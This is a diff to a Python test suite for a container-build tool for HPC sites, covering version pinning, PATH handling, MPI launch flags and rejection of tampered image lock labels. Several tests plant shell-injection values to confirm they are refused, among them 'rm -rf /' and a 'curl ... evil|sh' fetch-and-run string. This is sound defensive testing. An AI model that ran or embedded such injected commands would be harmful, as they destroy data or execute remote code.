@@ -61,12 +61,16 @@ def test_ngc_base_on_perlmutter_takes_the_images_versions(tmp_path: Path) -> Non
     assert lock.components["cuda"].version == "13.1"
     assert lock.components["torch"].source == "base image"
     assert "cuda-driver" in lock.rules and NGC in lock.rules["base-image"]
-    assert lock.user_content["constraints"]["torch"] == "2.10.0a0+b4e4ee81d3"
+    # the user's pip step is held to the torch the image itself reports, read in the build
+    # (the release notes' name for it may not be the image's own version string)
+    assert "torch" not in lock.user_content["constraints"]
     rendered = render(lock, site)
     assert f"FROM {NGC} AS runtime" in rendered.dockerfile
     assert "pip install --no-cache-dir torch" not in rendered.dockerfile
     assert 'io.hpcenv.component.torch="2.10.0a0+b4e4ee81d3"' in rendered.dockerfile
-    assert "torch==2.10.0a0+b4e4ee81d3" in rendered.user_inputs["hpcenv-user/constraints.txt"]
+    assert "torch==" not in rendered.user_inputs["hpcenv-user/constraints.txt"]
+    assert "print('torch==' + torch.__version__)" in rendered.dockerfile.replace("'\"'\"'", "'")
+    assert "-c /opt/hpcenv/base-constraints.txt six" in rendered.dockerfile
 
 
 def test_rocm_base_on_a_rocm63_frontier(tmp_path: Path) -> None:
@@ -196,7 +200,7 @@ def _hostile(built_json: str) -> list[tuple[str, str]]:
     version = json.loads(built_json)
     version["components"]["torch"]["version"] = "2.13.0 ; rm -rf /"
     build = json.loads(built_json)
-    build["build"]["extra"] = "a b"
+    build["build"]["platform"] = "linux/amd64 ; x"
     deep: object = 1
     for _ in range(200):
         deep = [deep]
@@ -204,7 +208,7 @@ def _hostile(built_json: str) -> list[tuple[str, str]]:
         ("{not json", "not JSON"),
         (json.dumps(user), "control character"),
         (json.dumps(version), "components.torch.version"),
-        (json.dumps(build), "build.extra"),
+        (json.dumps(build), "build.platform"),
         (json.dumps({**doc, "components": deep}), "nested too deep"),
         ("x" * ((1 << 20) + 1), "at most"),
         (json.dumps({**doc, "schema": 2}), "schema"),
@@ -260,3 +264,87 @@ def test_podman_image_with_a_planted_lock_label_is_refused(tmp_path: Path) -> No
         assert not out.exists()
     finally:
         subprocess.run(["podman", "rmi", "-f", tag], capture_output=True, env=engine_env())
+
+
+def _all_locks() -> list[tuple[str, str, str]]:
+    from hpcenv.errors import ConflictError
+
+    root = Path(__file__).resolve().parents[1]
+    out = []
+    for site_file in sorted((root / "site-configs").glob("*.yaml")):
+        site = load_site(site_file.stem)
+        for recipe_path in sorted((root / "recipes").glob("*.yaml")):
+            try:
+                lock = resolve(site, load_recipe(recipe_path.stem))
+            except (ConfigError, ConflictError):
+                continue  # refused for this site: nothing hpcenv would build or label
+            out.append((site.name, recipe_path.stem, lock.to_json()))
+    return out
+
+
+def test_every_lock_hpcenv_writes_reads_back_as_a_base() -> None:
+    """Each site x recipe lock hpcenv would put in a label passes the label check (e.g. the
+    'site build' version of Perlmutter's NCCL plugin)."""
+    from hpcenv.prebuilt import hpcenv_lock
+
+    locks = _all_locks()
+    assert len(locks) > 30
+    for site, recipe, text in locks:
+        read = hpcenv_lock("x", lambda image, t=text: {LOCK_LABEL: t})
+        assert read is not None and read.site == site, (site, recipe)
+        assert set(read.build) <= {"user", "platform", "engine", "jobs", "accelerator"}
+
+
+def test_a_label_cannot_choose_the_build_path(tmp_path: Path) -> None:
+    """A label saying the base was built from the OS's python, with a shell word in a package
+    option: the user recipe still gets the prebuilt stage only (no apt-get, no venv, no
+    useradd, nothing of the option), and an odd MPI implementation is no traceback."""
+    site = load_site("local")
+    doc = json.loads(resolve(site, load_recipe("horovod-cpu")).to_json())
+    doc["build"]["python_from"] = "os"
+    doc["components"]["mpi4py"]["options"] = {"package": "python3-mpi4py;curl${IFS}evil|sh"}
+    doc["components"]["mpi"]["implementation"] = "foo"
+    recipe = load_recipe(str(recipe_file(tmp_path, LOCAL, "pip: [six]\n", extends="horovod-cpu")))
+    lock = resolve_on_base(
+        site, recipe, {}, LOCAL, inspect=lambda image: {LOCK_LABEL: json.dumps(doc)}
+    )
+    assert "python_from" not in lock.build
+    text = render(lock, site).dockerfile
+    steps = text.split("\nLABEL ")[0]  # the labels carry the (escaped) lock, reasons and all
+    assert "apt-get" not in steps and "evil" not in steps and "useradd" not in steps
+    assert "python3 -m venv" not in steps and f"FROM {LOCAL} AS runtime" in steps
+
+
+def test_pinning_exactly_the_bases_torch_is_accepted(tmp_path: Path) -> None:
+    site = load_site("perlmutter")
+    recipe = load_recipe(str(recipe_file(tmp_path, NGC)))
+    for pin in ("2.10.0a0+b4e4ee81d3!", "2.10.0a0"):
+        lock = resolve_on_base(site, recipe, {"torch": pin}, NGC)
+        assert lock.components["torch"].version == "2.10.0a0+b4e4ee81d3"
+
+
+def test_a_framework_base_keeps_its_own_path(tmp_path: Path) -> None:
+    """The venv goes first on the image's own PATH (NGC's /usr/local/cuda/bin, a ROCm image's
+    conda env and /opt/rocm/bin stay), in both formats."""
+    site = load_site("perlmutter")
+    out = render(resolve(site, load_recipe(str(recipe_file(tmp_path, NGC)))), site)
+    assert 'ENV PATH="/opt/venv/bin:$PATH"' in out.dockerfile
+    assert '    export PATH=/opt/venv/bin:"$PATH"' in out.singularity.splitlines()
+
+
+def test_process_job_on_a_framework_base_keeps_the_images_mpi(tmp_path: Path) -> None:
+    """On Perlmutter (bind model) a job on an NGC base: no --mpi module, no bind preflight,
+    and a note saying so; hpcenv's own image keeps both."""
+    recipe_file(tmp_path, NGC)
+    args = ["submit", "-s", "perlmutter", "--account", "m1234", "--dry-run"]
+    proc = run(*args, "-r", "./proj.yaml", "--", "python3", "train.py", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert f"note: {NGC} is a framework image with its own communication stack" in proc.stderr
+    launch = next(
+        ln for ln in proc.stdout.splitlines() if ln.startswith("srun ") and "podman-hpc" in ln
+    )
+    assert " --mpi " not in launch and "--gpu --nccl" in launch
+    assert "bind-preflight.sh" not in proc.stdout
+    own = run(*args, "-r", "torch-gpu", "--", "python3", "train.py", cwd=tmp_path)
+    assert own.returncode == 0, own.stderr
+    assert "podman-hpc run --rm --gpu --mpi" in own.stdout and "bind-preflight.sh" in own.stdout
